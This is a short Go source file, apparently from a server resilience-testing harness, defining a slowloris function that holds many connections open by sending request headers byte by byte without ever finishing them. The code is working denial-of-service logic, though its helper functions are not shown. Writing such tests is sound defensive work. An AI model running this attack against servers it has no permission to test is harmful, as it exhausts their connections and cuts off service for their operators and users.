package abuse

import (
	"context"
	"io"
	"net"
)

// SlowHeads is slowloris: n requests whose heads arrive byte by byte and never end.
func SlowHeads(ctx context.Context, target Target, n int) Outcome {
	return each(ctx, target, n, func(ctx context.Context, conn *net.TCPConn, t *tally) {
		if _, err := io.WriteString(conn, target.head("GET", "/healthz")); err != nil {
			t.ended(err)
			return
		}
		defer beside(conn, func() { drip(ctx, conn, "X-Slow: x", dripEvery) })()
		t.await(conn)
	})
}
